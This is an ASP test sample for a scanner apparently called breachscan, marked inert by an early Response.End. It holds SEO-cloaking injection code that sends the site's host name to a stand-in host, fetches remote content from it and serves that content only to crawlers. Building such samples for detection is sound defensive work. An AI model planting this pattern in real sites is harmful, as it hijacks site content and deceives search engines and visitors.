<%
' synthetic test sample for breachscan: remote content keyed by host name, shown to crawlers only. Inert: Response.End first.
Response.End
Dim ua, u
ua = Request.ServerVariables("HTTP_USER_AGENT")
u = "http://example.invalid/?host=" & request.servervariables("HTTP_HOST") & request.servervariables("script_name")
If InStr(ua, "Spider") > 0 Then
  Set h = Server.CreateObject("MSXML2.ServerXMLHTTP")
  h.Open "GET", u, False : h.Send
  response.write h.responseText
End If
%>
